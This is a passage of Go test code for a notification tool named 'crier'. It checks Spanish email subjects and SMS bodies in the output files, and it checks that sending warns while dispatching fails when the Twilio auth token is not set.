		t.Fatalf("%d emails and %d texts written", len(emls), len(jsons))
	}
	var dec mime.WordDecoder
	for _, f := range emls {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		msg, err := mail.ReadMessage(strings.NewReader(string(data)))
		if err != nil {
			t.Fatal(err)
		}
		if subject, err := dec.DecodeHeader(msg.Header.Get("Subject")); err != nil || subject != rs["es"].Subject {
			t.Errorf("%s to %s: Subject %q (%v), want %q", f, msg.Header.Get("To"), subject, err, rs["es"].Subject)
		}
	}
	for _, f := range jsons {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var m struct{ To, Body string }
		if err := json.Unmarshal(data, &m); err != nil || m.Body != rs["es"].SMS.Text {
			t.Errorf("%s to %s: %q (%v), want the Spanish text", f, m.To, m.Body, err)
		}
	}
}

// TestSendWithoutTheDispatchersSecrets: the coordinator's shell lacks
// CRIER_TWILIO_AUTH_TOKEN, which only the dispatcher needs. crier send
// warns and queues the notice; crier dispatch refuses until it is set.
func TestSendWithoutTheDispatchersSecrets(t *testing.T) {
	nonTerminalStdin(t)
	cfg := exampleSetup(t)
	body, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	twilio := strings.NewReplacer(
		`# account_sid = "AC`, `account_sid = "AC`,
		`# from = "+13155550142"`, `from = "+13155550142"`,
	).Replace(string(body))
	if twilio == string(body) {
		t.Fatal("crier.example.toml has no commented [twilio] account_sid and from to turn on")
	}
	if err := os.WriteFile(cfg, []byte(twilio), 0o644); err != nil {
		t.Fatal(err)
	}
	clearSecrets(t)

	code, stdout, stderr := crier(t, append([]string{"--config", cfg}, sendArgs("--list", "customers", "--channels", "sms", "--yes")...)...)
	if code != 0 {
		t.Fatalf("send: exit %d, want 0\n%s%s", code, stdout, stderr)
	}
	if !strings.Contains(stderr, "warning: crier dispatch cannot send yet: ") || !strings.Contains(stderr, config.EnvTwilioToken) {
		t.Errorf("send does not warn that the dispatcher needs %s:\n%s", config.EnvTwilioToken, stderr)
	}
	if !strings.Contains(stdout, "notice 1 sending: sms ") {
		t.Errorf("send did not queue the notice:\n%s", stdout)
	}
	code, stdout, stderr = crier(t, "--config", cfg, "dispatch")
	if code == 0 || !strings.Contains(stderr, config.EnvTwilioToken) {
		t.Errorf("dispatch without the token: exit %d, want a failure naming %s\n%s%s", code, config.EnvTwilioToken, stdout, stderr)
	}
}
